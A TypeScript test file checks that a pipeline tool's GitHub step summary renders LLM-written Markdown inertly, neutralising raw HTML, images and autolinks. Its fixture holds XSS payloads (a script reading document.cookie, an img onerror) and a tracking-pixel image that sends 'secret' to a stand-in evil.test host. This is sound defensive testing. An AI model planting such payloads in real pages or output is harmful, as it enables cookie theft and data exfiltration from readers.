// The Action's step summary shows a Markdown result as Markdown (an llm step's answer, or any result
// the pipeline declares `resultFormat: markdown`), inert: no raw HTML, autolink or image of it takes
// effect, and a fence it leaves open is closed. Other results stay in a text block.

import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createOpenAiClient, loadPipeline, runPipeline, type RunEvent } from '../../src/index.ts';
import { renderRunSummary } from '../../src/report/github-summary.ts';
import { inertMarkdown } from '../../src/report/untrusted-markdown.ts';
import { startScriptedServer, type ScriptedServer } from '../support/scripted-server.ts';

const answer = [
  '# Release v2',
  '',
  '**Breaking:** `Chart<Series>` takes `series`.',
  '',
  '| change | PR |',
  '|---|---|',
  '| faster export | #12 |',
  '',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="alert(1)"> <!-- hidden --> <https://evil.test/x>',
  '![pixel](https://evil.test/track.png?data=secret) and [a link](https://example.org)',
  '',
  '```html',
  '<b>unclosed',
].join('\n');

let server: ScriptedServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

/** The summary's Result section of a run whose one step is `tool` (llm answers `answer`), with `extra` pipeline fields. */
async function resultSection(tool: 'llm' | 'echo', extra = ''): Promise<string> {
  server = await startScriptedServer([
    { match: (call) => call.text.startsWith('Write it'), content: answer },
    { json: { steps: [{ id: 1, action: 'Write', tool, args: tool === 'llm' ? { prompt: 'Write it' } : {} }] } },
  ]);
  const dir = await mkdtemp(path.join(tmpdir(), 'planexec-summary-'));
  await writeFile(path.join(dir, 'echo.mjs'), `export const echo = () => ${JSON.stringify(answer)};\n`);
  const file = path.join(dir, 'p.yaml');
  await writeFile(file, `version: 1\nname: notes\ntask: Write the notes\nmodel: { name: m }\ntools:\n  - { name: echo, description: Echo, module: echo.mjs, export: echo, args: { type: object } }\n${extra}`);
  const pipeline = await loadPipeline(file, { cwd: dir, config: null });
  const events: RunEvent[] = [];
  const llm = createOpenAiClient({ ...pipeline.model, baseURL: server.url, maxRetries: 0 }, {});
  const outcome = await runPipeline(pipeline, { llm, cwd: dir, env: {}, onEvent: (event) => events.push(event) });
  expect(outcome.status).toBe('succeeded');
  const subject = { pipelineName: pipeline.name, pipelineFile: 'p.yaml', ...(pipeline.resultFormat ? { resultFormat: pipeline.resultFormat } : {}), resultTemplate: pipeline.result !== undefined };
  const summary = renderRunSummary(subject, events, { ...outcome, runId: outcome.runId });
  return summary.slice(summary.indexOf('### Result'));
}

describe('the result in the step summary', () => {
  it('an llm step\'s answer renders as Markdown, with no raw HTML, autolink or image taking effect', async () => {
    const section = await resultSection('llm');
    expect(section).not.toContain('```text');
    expect(section).toContain('\n# Release v2\n');
    expect(section).toContain('**Breaking:**');
    expect(section).toContain('| faster export | #12 |');
    expect(section).toContain('[a link](https://example.org)');
    // What opens HTML in (GitHub-flavoured) Markdown is a "<" before a letter, "/", "!" or "?"; an image is "![".
    expect(section).not.toMatch(/<[A-Za-z/!?]/);
    expect(section).not.toContain('![');
    expect(section).toContain('<\u200bscript>alert(document.cookie)<\u200b/script>');
    expect(section).toContain('!\u200b[pixel]');
    // The fence the answer left open is closed, so it cannot swallow anything after it.
    expect(section.trimEnd().endsWith('<\u200bb>unclosed\n```')).toBe(true);
  });

  it('a module\'s text, or a result template, stays in a text block; resultFormat decides either way', async () => {
    expect(await resultSection('echo')).toMatch(/^### Result\n\n`{3,}text\n# Release v2\n/);
    expect(await resultSection('llm', 'result: "{{last}}"\n')).toMatch(/^### Result\n\n`{3,}text\n/);
    expect(await resultSection('llm', 'resultFormat: text\n')).toMatch(/^### Result\n\n`{3,}text\n/);
    const declared = await resultSection('echo', 'resultFormat: markdown\n');
    expect(declared).toMatch(/^### Result\n\n# Release v2\n/);
    expect(declared).not.toMatch(/<[A-Za-z/!?]/);
  });

  it('knows a fence that is closed, and a longer or tilde one that is not', () => {
    expect(inertMarkdown('```js\nx\n```').openFence).toBe('');
    expect(inertMarkdown('````\n```\n').openFence).toBe('````');
    expect(inertMarkdown('~~~\n```\n').openFence).toBe('~~~');
    expect(inertMarkdown('  ```\n<b>\n   ```  ').openFence).toBe('');
    expect(inertMarkdown('a < b, <3 and a<-b stay as written').text).toBe('a < b, <3 and a<-b stay as written');
  });
});
